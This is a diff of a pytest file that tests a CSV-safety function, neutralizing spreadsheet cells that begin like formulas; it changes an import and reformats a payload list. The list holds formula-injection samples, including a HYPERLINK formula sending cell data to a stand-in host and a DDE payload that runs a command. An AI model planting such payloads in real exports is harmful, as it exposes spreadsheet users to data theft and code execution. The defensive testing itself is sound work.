@@ -10,15 +10,21 @@ import io
 
 import pytest
 
-from lima_eval.csvsafe import neutralize
+from comparisons.csvsafe import neutralize
 from results.services import results_refresh
 from tests.raters.conftest import open_study
 from tests.security.helpers import vote_as
 
 pytestmark = pytest.mark.django_db
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
-            "\t=1+1", "\r=1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_a_cell_that_starts_like_a_formula_is_written_as_text():
